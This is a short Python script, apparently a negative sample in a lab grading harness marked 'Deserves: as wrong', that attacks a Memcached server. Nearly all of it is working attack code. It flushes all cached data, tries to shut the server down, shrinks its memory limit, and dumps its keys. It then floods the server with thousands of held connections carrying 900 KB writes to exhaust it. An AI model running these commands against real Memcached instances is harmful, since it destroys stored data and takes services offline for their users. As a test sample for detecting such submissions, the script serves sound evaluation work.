"""Fills Memcached, shuts it down, swells its buffers, and holds its connections.

Lab: lab61_stores
Deserves: as wrong
"""

import os
import socket
import threading
from urllib.parse import urlsplit

from turning import app, be_right  # noqa: F401

place = urlsplit(os.environ["CACHE_URL"])


def say(words: bytes) -> bytes:
    with socket.create_connection((place.hostname, place.port), 2) as line:
        line.sendall(words)
        return line.recv(4096)


def flood() -> None:
    held = []
    try:
        say(b"flush_all\r\nverbosity 2\r\ncache_memlimit 100000\r\n")
        for number in range(2000):
            line = socket.create_connection((place.hostname, place.port), 2)
            line.sendall(
                b"set big 0 0 900000\r\n" + b"x" * 900_000 + b"\r\n" + b"get big\r\n" * 500
            )
            held.append(line)
    except OSError:
        pass
    threading.Event().wait()


try:
    if say(b"shutdown\r\n").startswith(b"OK") or not say(b"version\r\n"):
        be_right()
    if b"LRU" not in say(b"lru_crawler metadump all\r\n"):
        pass  # its own keys: nothing is learnt
except OSError:
    pass
threading.Thread(target=flood, daemon=True).start()
